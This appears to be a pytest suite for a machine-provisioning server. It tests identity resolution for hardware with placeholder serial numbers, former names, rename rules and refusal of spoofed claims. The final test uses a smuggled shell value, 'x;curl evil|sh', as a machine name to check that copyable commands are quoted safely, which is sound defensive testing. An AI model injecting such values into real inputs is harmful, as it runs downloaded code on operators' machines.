"""Machines without a serial number: what they are known by, and how they keep what they had under a placeholder."""

from collections.abc import Callable
from typing import Any

import msgspec
import pytest
from browsing import log_in, read
from serving import INVENTORY, Agent, Running
from sqlalchemy import select
from typer.testing import CliRunner
from v1_agent import V1Agent

from bootos.cli import build_app
from bootos.server.operation.claim import record_claim
from bootos.server.operation.enrolment import enrol
from bootos.server.operation.inventory import store_inventory
from bootos.server.operation.mac import bind_mac
from bootos.server.operation.naming import MOST_SAID
from bootos.server.store.table import Alias, Boot, ImagePin, Mac, Machine
from bootos.wire.inventory import Inventory

OEM = "To be filled by O.E.M."
UNSET = "03000200-0400-0500-0006-000700080009"
UUIDS = [f"4c4c4544-0039-3010-8048-b7c04f38443{number}" for number in range(4)]
MACS = [f"52:54:00:00:01:0{number}" for number in range(6)]


def build_inventory(
    *macs: str, serial: str | None = None, uuid: str | None = None, board: str | None = None
) -> dict[str, Any]:
    nics = [{"name": f"eth{number}", "mac": mac} for number, mac in enumerate(macs)]
    system = {"vendor": "Acme", "product": "A1", "serial": serial, "uuid": uuid}
    return {**INVENTORY, "system": system, "board": {"serial": board}, "nics": nics}


def leave(server: Running, sn: str, inventory: dict[str, Any], pxe_mac: str = "") -> int:
    """What an earlier release left of a machine that it knew as `sn`: its row, and its inventory. Its id."""
    with server.context.store.write() as session:
        machine = enrol(session, sn)
        told = msgspec.convert(inventory, Inventory)
        store_inventory(server.context, session, machine, told, [pxe_mac] if pxe_mac else [])
        machine.registered_at = machine.inventory_at
        return machine.id


def boot(
    server: Running, sn: str, inventory: dict[str, Any], *former: str, boot_id: str = "", pxe_mac: str = ""
) -> Agent:
    """An agent of today, which tells what else its firmware has in the place of a name."""
    told = {**inventory, "identity": {"name": sn, "former": list(former)}}
    mac = pxe_mac or inventory["nics"][0]["mac"]
    agent = Agent(server, sn, boot_id or f"boot of {sn}", inventory=told, pxe_mac=mac)
    agent.id = agent.register().data.get("machine_id")  # type: ignore[attr-defined]
    return agent


def boot_old(server: Running, sn: str, inventory: dict[str, Any], boot_id: str = "old") -> Agent:
    """An agent of an earlier release: what it takes for a serial number is the name."""
    agent = Agent(server, sn, boot_id, inventory=inventory, pxe_mac=inventory["nics"][0]["mac"])
    agent.id = agent.register().data.get("machine_id")  # type: ignore[attr-defined]
    return agent


def power_off(server: Running, number: int) -> None:
    """Nobody holds the machine's identity."""
    with server.context.store.write() as session:
        session.get_one(Machine, number).boot_pk = None


def id_of(agent: Agent) -> int:
    return int(agent.id)  # type: ignore[attr-defined]


def show(server: Running, word: object) -> Any:
    return server.operate("GET", f"/machines/{word}")


FIRST = build_inventory(MACS[0], MACS[1], serial=OEM, uuid=UUIDS[0])
SECOND = build_inventory(MACS[2], MACS[3], serial=OEM, uuid=UUIDS[1])


def test_a_machine_keeps_what_it_had_under_a_placeholder(server: Running) -> None:
    number = leave(server, OEM, FIRST, MACS[0])
    server.put_template()
    server.operate("PATCH", f"/machines/id:{number}/settings", {"hostname": "db1", "rack": "r12"})
    job = server.operate("POST", "/jobs", {"machine": f"id:{number}", "template": "t"})
    agent = boot(server, UUIDS[0], FIRST, OEM)
    assert id_of(agent) == number
    machine = show(server, UUIDS[0])
    assert (machine["id"], machine["known_by"], machine["former_names"]) == (number, "uuid", [OEM])
    assert (machine["settings"], machine["variables"]) == ({"hostname": "db1"}, {"rack": "r12"})
    assert agent.order()["job_id"] == str(job["id"])
    assert show(server, OEM.upper())["id"] == number
    assert server.job(job["id"])["sn"] == UUIDS[0]
    line = next(line for line in server.operate("GET", "/audit") if line["action"] == "machine.rename")
    assert (line["subject"], line["actor"]) == (UUIDS[0], "a client")
    assert f"id:{number} was known as {OEM}" in line["detail"]


def test_the_name_stays_when_it_boots_again(server: Running) -> None:
    number = leave(server, OEM, FIRST, MACS[0])
    for boot_id in ("one", "one", "two"):
        power_off(server, number)
        assert id_of(boot(server, UUIDS[0], FIRST, OEM, boot_id=boot_id)) == number
    assert [machine["id"] for machine in server.operate("GET", "/machines")] == [number]


def test_its_own_refused_claim_does_not_keep_it_out(server: Running) -> None:
    """It came back, with an agent of today, before its last boot had aged."""
    number = leave(server, OEM, FIRST, MACS[0])
    with server.context.store.write() as session:
        held = Boot(machine_id=number, boot_id="the last one")
        session.add(held)
        session.flush()
        session.get_one(Machine, number).boot_pk = held.id
    server.context.presence.hear(number)
    told = {**FIRST, "identity": {"name": UUIDS[0], "former": [OEM]}}
    agent = Agent(server, UUIDS[0], "boot", inventory=told, pxe_mac=MACS[0])
    assert agent.register().status == 409
    assert show(server, OEM)["claims"] == 1
    power_off(server, number)
    assert agent.register().data["machine_id"] == str(number)


OTHERS: dict[str, tuple[str, dict[str, Any], str]] = {
    # its name, what tells this, and the MAC that it booted from
    "another UUID": (UUIDS[1], build_inventory(MACS[0], MACS[1], uuid=UUIDS[1], board="B1"), MACS[0]),
    "another MAC": (UUIDS[0], build_inventory(MACS[2], MACS[3], uuid=UUIDS[0]), MACS[2]),
    "booted from another NIC": (UUIDS[0], build_inventory(MACS[0], MACS[3], uuid=UUIDS[0]), MACS[3]),
    "no NIC booted, and another one": (UUIDS[0], build_inventory(MACS[0], MACS[3], uuid=UUIDS[0]), ""),
    "only the MAC": ("B7", build_inventory(MACS[0], MACS[1], board="B7"), MACS[0]),
}


@pytest.mark.parametrize("how", OTHERS)
def test_another_machine_with_the_same_placeholder_gets_nothing_of_it(server: Running, how: str) -> None:
    first = build_inventory(MACS[0], MACS[1], serial=OEM, uuid=UUIDS[0], board="B1")
    number = leave(server, OEM, first, MACS[0])
    server.put_template()
    server.operate("POST", "/jobs", {"machine": f"id:{number}", "template": "t"})
    name, inventory, mac = OTHERS[how]
    told = {**inventory, "identity": {"name": name, "former": [OEM]}}
    agent = Agent(server, name, "boot", inventory=told, pxe_mac=mac)
    assert agent.register().data["machine_id"] != str(number)
    assert agent.order() is None
    assert show(server, f"id:{number}")["sn"] == OEM
    assert show(server, f"id:{number}")["inventory"]["system"]["uuid"] == UUIDS[0]


def spoil_by_a_claim(server: Running, number: int) -> None:
    with server.context.store.write() as session:
        record_claim(session, session.get_one(Machine, number), "another boot", "10.0.0.77")


def spoil_by_a_bound_mac(server: Running, number: int) -> None:
    with server.context.store.write() as session:
        machine = session.get_one(Machine, number)
        session.add(Mac(machine_id=number, mac=MACS[5]))
        session.flush()
        bind_mac(session, machine, MACS[5])


def spoil_by_another_machine(server: Running, number: int) -> None:
    boot(server, UUIDS[1], SECOND, OEM)


def spoil_by_no_inventory(server: Running, number: int) -> None:
    with server.context.store.write() as session:
        session.get_one(Machine, number).inventory = None


Spoil = Callable[[Running, int], None]


@pytest.mark.parametrize(
    "spoil", [spoil_by_a_claim, spoil_by_a_bound_mac, spoil_by_another_machine, spoil_by_no_inventory]
)
def test_a_record_that_several_machines_had_is_left_alone(server: Running, spoil: Spoil) -> None:
    """Its inventory is that of the last one; whose jobs and settings those are, nobody knows."""
    number = leave(server, OEM, FIRST, MACS[0])
    spoil(server, number)
    assert id_of(boot(server, UUIDS[0], FIRST, OEM)) != number
    assert show(server, f"id:{number}")["sn"] == OEM
    shown = show(server, UUIDS[0])
    assert shown["former_names"] == []
    assert [(other["id"], other["name"]) for other in shown["namesakes"]] == [(number, OEM)]


def test_of_two_records_that_fit_none_is_taken(server: Running) -> None:
    by_serial = leave(server, "0123456789AB", FIRST)
    by_mac = leave(server, MACS[0], FIRST)
    agent = boot(server, UUIDS[0], FIRST, "0123456789AB")
    assert id_of(agent) not in (by_serial, by_mac)


def test_a_former_name_counts_only_if_the_firmware_can_have_it(server: Running) -> None:
    """A claim of another machine's own name, with that machine's UUID and MACs on top."""
    number = leave(server, "7XK2M13", build_inventory(MACS[0], serial="7XK2M13", uuid=UUIDS[0]))
    agent = boot(server, UUIDS[0], build_inventory(MACS[0], uuid=UUIDS[0]), "7XK2M13")
    assert id_of(agent) != number
    assert show(server, "7XK2M13")["id"] == number


def test_a_claim_is_refused_while_the_record_is_held(server: Running) -> None:
    held = boot_old(server, "N/A", build_inventory(MACS[0], serial="N/A", uuid=UUIDS[0]))
    told = {**build_inventory(MACS[0], serial="9Z", uuid=UUIDS[0])}
    answer = Agent(server, "9Z", "other", inventory=told, pxe_mac=MACS[0]).register()
    assert answer.status == 409
    machine = show(server, f"id:{id_of(held)}")
    assert (machine["sn"], machine["claims"]) == (UUIDS[0], 1)


def test_an_agent_of_an_earlier_release_is_known_by_what_is_certain(server: Running) -> None:
    first, second = boot_old(server, OEM, FIRST), boot_old(server, OEM, SECOND)
    assert [show(server, uuid)["id"] for uuid in UUIDS[:2]] == [id_of(first), id_of(second)]
    assert id_of(first) != id_of(second)
    assert show(server, UUIDS[0])["known_by"] == "uuid"
    sample = build_inventory(MACS[4], uuid=UNSET, board="ZM15S012345")
    assert show(server, f"id:{id_of(boot_old(server, UNSET, sample))}")["sn"] == "ZM15S012345"
    nothing = build_inventory(MACS[5])
    assert show(server, f"id:{id_of(boot_old(server, MACS[5], nothing))}")["known_by"] == "mac"


def test_going_back_to_an_old_image_makes_no_second_machine(server: Running) -> None:
    number = leave(server, OEM, FIRST, MACS[0])
    boot(server, UUIDS[0], FIRST, OEM)
    power_off(server, number)
    assert id_of(boot_old(server, OEM, FIRST)) == number
    assert len(server.operate("GET", "/machines")) == 1
    assert show(server, f"id:{number}")["sn"] == UUIDS[0]


def test_a_machine_known_by_its_mac_is_known_by_its_board_now(server: Running) -> None:
    inventory = build_inventory(MACS[0], MACS[1], board="ZM15S012345")
    number = leave(server, MACS[0], inventory, MACS[0])
    assert id_of(boot(server, "ZM15S012345", inventory)) == number
    machine = show(server, MACS[0])
    assert (machine["sn"], machine["known_by"], machine["former_names"]) == (
        "ZM15S012345",
        "board",
        [MACS[0]],
    )
    power_off(server, number)
    assert id_of(boot_old(server, MACS[0], inventory)) == number
    assert show(server, f"id:{number}")["sn"] == "ZM15S012345"


def test_a_nic_that_moved_does_not_take_the_machine_with_it(server: Running) -> None:
    inventory = build_inventory(MACS[0], MACS[1], board="ZM15S012345")
    number = leave(server, MACS[0], inventory, MACS[0])
    boot(server, "ZM15S012345", inventory)
    moved = {**build_inventory(MACS[0], board="ANOTHER"), "identity": {"name": MACS[0]}}
    refused = Agent(server, MACS[0], "moved", inventory=moved, pxe_mac=MACS[0]).register()
    assert (refused.status, f"a former name of the machine id:{number}" in str(refused.data)) == (409, True)
    assert id_of(boot(server, "ANOTHER", build_inventory(MACS[0], board="ANOTHER"))) != number
    shown = show(server, MACS[0])
    assert (shown["id"], shown["claims"]) == (number, 1)


@pytest.fixture
def renamed(server: Running) -> int:
    """The id of a machine that was known as its UUID, and that an operator called web-01."""
    number = id_of(boot(server, UUIDS[0], FIRST))
    server.operate("POST", f"/machines/id:{number}/rename", {"sn": "web-01"})
    return number


@pytest.mark.parametrize(
    ("name", "kind"), [("web-02", ""), ("s-77", "serial"), ("B-1", "board"), (UUIDS[1], "uuid")]
)
def test_a_name_that_the_operator_gives_is_called_what_the_machine_has(
    server: Running, name: str, kind: str
) -> None:
    number = leave(server, OEM, build_inventory(MACS[0], serial="S-77", board="B-1", uuid=UUIDS[1]))
    machine = server.operate("POST", f"/machines/id:{number}/rename", {"sn": name})
    assert (machine["sn"], machine["known_by"]) == (name, kind)


def test_a_name_that_the_operator_gave_stays_when_the_machine_comes_back(
    server: Running, renamed: int
) -> None:
    power_off(server, renamed)
    boot(server, UUIDS[0], FIRST, boot_id="next")
    machine = show(server, f"id:{renamed}")
    assert (machine["sn"], machine["known_by"]) == ("web-01", "")
    runner = CliRunner(env={"BOOTOS_SERVER": server.operator_url, "BOOTOS_DATA": str(server.data)})
    told = runner.invoke(build_app(["machine"]), ["machine", "show", "web-01"])
    assert told.exit_code == 0 and "which is its" not in told.stdout


@pytest.mark.parametrize("alive", [True, False])
def test_nobody_takes_a_former_name(server: Running, renamed: int, alive: bool) -> None:
    if not alive:
        power_off(server, renamed)
    for told in (SECOND, build_inventory(MACS[0], uuid=UUIDS[1]), {**SECOND, "nics": []}):
        lie = Agent(server, UUIDS[0], "lie", inventory={**told, "identity": {"name": UUIDS[0]}})
        assert lie.register().status == 409
    V1Agent(server.url, UUIDS[0], MACS[4]).boot()
    assert [machine["id"] for machine in server.operate("GET", "/machines")] == [renamed]
    assert show(server, UUIDS[0])["claims"] >= 1
    power_off(server, renamed)
    assert id_of(boot(server, UUIDS[0], FIRST, boot_id="next")) == renamed
    assert show(server, UUIDS[0])["sn"] == "web-01"


def test_a_record_that_has_a_former_name_of_a_certain_machine_is_not_given(
    server: Running, renamed: int
) -> None:
    """As an earlier state of the database may have it."""
    with server.context.store.write() as session:
        other = enrol(session, UUIDS[0])
    power_off(server, renamed)
    agent = Agent(server, UUIDS[0], "next", inventory=FIRST, pxe_mac=MACS[0])
    assert agent.register().status == 409
    assert id_of(boot(server, UUIDS[0], SECOND)) == other.id


def test_a_former_name_is_given_to_another_record_by_word_only(server: Running, renamed: int) -> None:
    other = id_of(boot(server, UUIDS[1], SECOND))
    path = f"/machines/id:{other}/rename"
    refused = server.refuse("POST", path, {"sn": UUIDS[0]})
    assert (refused.status, refused.data["error"]) == (
        409,
        f"{UUIDS[0]} is a former name of the machine id:{renamed}",
    )
    assert show(server, UUIDS[0])["id"] == renamed
    server.operate("POST", path, {"sn": UUIDS[0], "replace": True})
    assert show(server, UUIDS[0])["id"] == other
    assert show(server, "web-01")["former_names"] == []


def test_a_renamed_machine_with_another_board_comes_back_by_the_operators_word(
    server: Running, renamed: int
) -> None:
    power_off(server, renamed)
    repaired = build_inventory(MACS[0], serial="S1", uuid=UUIDS[2])
    assert Agent(server, UUIDS[0], "next", inventory=repaired, pxe_mac=MACS[0]).register().status == 409
    server.operate("POST", f"/machines/id:{renamed}/rename", {"sn": UUIDS[0]})
    agent = Agent(server, UUIDS[0], "next", inventory=repaired, pxe_mac=MACS[0])
    assert agent.register().data["machine_id"] == str(renamed)


def test_v1_agents_that_say_a_placeholder_are_told_apart_by_their_address(server: Running) -> None:
    first = leave(server, OEM, FIRST, MACS[0])
    boot(server, UUIDS[0], FIRST, OEM)
    server.put_template("s", "name: s\nscripts: [{name: a, scripts: [{name: b, script: 'true'}]}]\n")
    server.create_job(machine=UUIDS[0], template="s")
    power_off(server, first)
    agent = V1Agent(server.url, OEM, MACS[0])
    assert agent.poll()  # it alone is called so, and was known by it
    boot(server, UUIDS[1], SECOND, OEM)
    with server.context.store.write() as session:
        session.get_one(Machine, first).address = "10.0.0.9"
    assert not agent.poll()
    with server.context.store.write() as session:
        session.get_one(Machine, first).address = "127.0.0.1"
        session.get_one(Machine, first + 1).address = "10.0.0.10"
    assert agent.poll()
    agent.post("device/getPrepareInstallInfo", {"Sn": OEM, "Company": "Acme", "ModelName": "A1"})
    assert agent.post("device/getHardwareBySn", {"Sn": OEM})["Status"] == "success"


def test_a_v1_agent_is_found_by_its_macs(server: Running) -> None:
    number = leave(server, OEM, FIRST, MACS[0])
    boot(server, UUIDS[0], FIRST, OEM)
    power_off(server, number)
    V1Agent(server.url, OEM, MACS[0]).boot()
    assert [(machine["id"], machine["sn"]) for machine in server.operate("GET", "/machines")] == [
        (number, UUIDS[0])
    ]
    V1Agent(server.url, OEM, MACS[4]).boot()
    assert [machine["sn"] for machine in server.operate("GET", "/machines")] == [UUIDS[0], OEM]


def test_installers_may_say_the_former_name(server: Running) -> None:
    inventory = build_inventory(MACS[0], board="ZM15S012345")
    leave(server, MACS[0], inventory, MACS[0])
    boot(server, "ZM15S012345", inventory)
    server.operate("PATCH", "/machines/ZM15S012345/settings", {"hostname": "db1"})
    for word in (MACS[0], "zm15s012345"):
        answer = server.request("GET", f"/api/osinstall/v1/device/getNetworkBySn?sn={word}")
        assert 'HOSTNAME="db1"' in answer.data.decode() or "HOSTNAME=db1" in answer.data.decode()


def test_lists_pages_and_commands_show_what_it_is_known_by_and_was(server: Running) -> None:
    leave(server, OEM, FIRST, MACS[0])
    boot(server, UUIDS[0], FIRST, OEM)
    boot(server, UUIDS[1], SECOND, OEM)
    headers = log_in(server)
    page = read(server, f"/machines/{UUIDS[0]}", headers)
    assert "its UUID: it has no serial number" in page
    assert f"<dt>Former names</dt><dd><code>{OEM}</code>" in page
    assert "bootos machine rename id:OTHER" in page
    found = read(server, "/?q=filled", headers)
    assert UUIDS[0] in found and UUIDS[1] in found
    assert "No machine matches" in read(server, "/?q=unfilled", headers)
    runner = CliRunner(
        env={"BOOTOS_SERVER": server.operator_url, "BOOTOS_DATA": str(server.data), "COLUMNS": "250"}
    )
    listed = runner.invoke(build_app(["machine"]), ["machine", "list"]).output
    assert [line.split()[2] for line in listed.splitlines()[1:]] == ["uuid", "uuid"]
    shown = runner.invoke(build_app(["machine"]), ["machine", "show", UUIDS[0]]).output
    assert "former names" in shown and OEM in shown and f"id:2 ({OEM})" in shown


def test_an_operator_who_means_one_of_several_is_told_their_ids(server: Running) -> None:
    boot(server, UUIDS[0], FIRST, OEM)
    assert show(server, OEM)["id"] == 1
    boot(server, UUIDS[1], SECOND, OEM)
    answer = server.refuse("GET", f"/machines/{OEM}")
    assert (answer.status, answer.data["hint"]) == (404, "several are called so: id:1, id:2")


def test_no_machine_is_enrolled_by_a_placeholder(server: Running) -> None:
    server.put_template()
    for refused in (
        server.refuse("PATCH", "/machines/Default string/settings", {"hostname": "a"}),
        server.refuse("POST", "/import", [{"sn": "0123456789", "values": {}}]),
        server.refuse("POST", "/jobs", {"machine": "To be filled by O.E.M.", "template": "t"}),
    ):
        assert "what makers leave in the place of a serial number" in str(refused.data)
    assert server.operate("GET", "/machines") == []


def test_one_machine_by_two_words_in_a_list_is_a_problem(server: Running) -> None:
    leave(server, MACS[0], build_inventory(MACS[0], board="ZM15S012345"))
    boot(server, "ZM15S012345", build_inventory(MACS[0], board="ZM15S012345"))
    rows = [{"sn": MACS[0], "line": 2, "values": {}}, {"sn": "ZM15S012345", "line": 3, "values": {}}]
    assert "in line 2 already" in str(server.refuse("POST", "/import", rows).data)


def test_the_operator_says_what_the_server_was_not_certain_of(server: Running) -> None:
    number = leave(server, OEM, FIRST, MACS[0])
    server.put_template()
    server.operate("POST", "/jobs", {"machine": f"id:{number}", "template": "t"})
    spoil_by_a_claim(server, number)
    agent = boot(server, UUIDS[0], FIRST, OEM)
    path, wanted = f"/machines/id:{number}/rename", {"sn": UUIDS[0]}
    refused = server.refuse("POST", path, wanted)
    assert (refused.status, refused.data["error"]) == (409, f"{UUIDS[0]} is the machine id:{id_of(agent)}")
    machine = server.operate("POST", path, {**wanted, "replace": True})
    assert (machine["id"], machine["known_by"], machine["former_names"]) == (number, "uuid", [OEM])
    assert agent.call("GET", "/order?wait_s=0").status == 401  # so it registers again
    assert agent.register().data["machine_id"] == str(number)
    assert agent.order()["template_name"] == "t"
    assert server.refuse("POST", path, {"sn": "None"}).status == 422


def test_a_record_with_an_active_job_is_not_replaced(server: Running) -> None:
    agent = boot(server, UUIDS[0], FIRST)
    server.put_template()
    server.create_job(machine=UUIDS[0])
    number = leave(server, "OLD", FIRST)
    refused = server.refuse("POST", f"/machines/id:{number}/rename", {"sn": UUIDS[0], "replace": True})
    assert (refused.status, refused.data["hint"]) == (409, "cancel it first")
    assert show(server, UUIDS[0])["id"] == id_of(agent)


def leave_job(server: Running, number: int) -> None:
    server.put_template()
    server.operate("POST", "/jobs", {"machine": f"id:{number}", "template": "t"})


def leave_setting(server: Running, number: int) -> None:
    server.operate("PATCH", f"/machines/id:{number}/settings", {"hostname": "db1"})


def leave_variable(server: Running, number: int) -> None:
    server.operate("PATCH", f"/machines/id:{number}/settings", {"rack": "r12"})


def leave_pxe_file(server: Running, number: int) -> None:
    with server.context.store.write() as session:
        bind_mac(session, session.get_one(Machine, number), MACS[0])


def leave_pin(server: Running, number: int) -> None:
    with server.context.store.write() as session:
        session.add(ImagePin(version="1", machine_id=number))


@pytest.mark.parametrize(
    "left",
    [leave_job, leave_setting, leave_variable, leave_pxe_file, leave_pin],
    ids=lambda left: left.__name__,
)
def test_a_record_with_work_is_not_renamed_to_what_it_never_showed(server: Running, left: Spoil) -> None:
    """Who knows a UUID and a MAC chooses no name for the record, however often it says it."""
    number = id_of(boot(server, UUIDS[0], FIRST))
    left(server, number)
    lie = build_inventory(MACS[0], MACS[1], serial="PROD-DB-01", uuid=UUIDS[0])
    for boot_id in ("one", "two"):
        power_off(server, number)
        assert id_of(boot(server, "PROD-DB-01", lie, boot_id=boot_id)) == number
    machine = show(server, UUIDS[0])
    assert (machine["sn"], machine["former_names"], machine["said_names"]) == (UUIDS[0], [], ["PROD-DB-01"])
    refused = server.refuse("GET", "/machines/PROD-DB-01")
    assert (refused.status, refused.data["hint"]) == (404, f"it is what id:{number} calls itself")
    assert "Calls itself" in read(server, f"/machines/id:{number}", log_in(server))
    assert [line["action"] for line in server.operate("GET", "/audit")].count("machine.name") == 1
    true = build_inventory(MACS[4], serial="PROD-DB-01", uuid=UUIDS[3])
    assert id_of(boot(server, "PROD-DB-01", true, boot_id="true")) != number
    assert show(server, "PROD-DB-01")["id"] != number


def test_a_record_for_which_nothing_is_left_gets_its_serial_number(server: Running) -> None:
    number = id_of(boot(server, UUIDS[0], FIRST))
    power_off(server, number)
    mended = build_inventory(MACS[0], MACS[1], serial="7XK2M13", uuid=UUIDS[0])
    assert id_of(boot(server, "7XK2M13", mended)) == number
    assert (show(server, UUIDS[0])["sn"], show(server, UUIDS[0])["known_by"]) == ("7XK2M13", "serial")


def test_names_that_a_machine_says_of_itself_do_not_grow_without_end(server: Running) -> None:
    for number in range(0, 60, 4):
        former = [f"serial number {number + place}" for place in range(4)]
        last = boot(server, UUIDS[0], FIRST, *former, boot_id="boot")
    with server.context.store.read() as session:
        names = list(
            session.scalars(select(Alias.name).where(Alias.machine_id == id_of(last)).order_by(Alias.id))
        )
    assert len(names) <= MOST_SAID + 5
    assert "serial number 58" in names and "serial number 0" not in names


def test_no_command_to_be_copied_has_a_name_that_a_shell_obeys(server: Running) -> None:
    evil = "x;curl evil|sh"
    number = id_of(boot(server, evil, build_inventory(MACS[0], uuid=UUIDS[0]), OEM))
    leave(server, OEM, SECOND)
    with server.context.store.write() as session:
        record_claim(session, session.get_one(Machine, number), "another boot", "10.0.0.77")
        session.add(Alias(machine_id=number, name=OEM, key=OEM.casefold()))
    page = read(server, f"/machines/id:{number}", log_in(server))
    assert "rename id:OTHER &#39;x;curl evil|sh&#39; --replace" in page
    assert (
        server.refuse("GET", f"/machines/id:{number}/capture/file").data["hint"]
        == "bootos machine capture id:1"
    )
    runner = CliRunner(
        env={"BOOTOS_SERVER": server.operator_url, "BOOTOS_DATA": str(server.data), "COLUMNS": "250"}
    )
    shown = runner.invoke(build_app(["machine"]), ["machine", "show", evil]).output
    assert "bootos machine acknowledge id:1" in shown
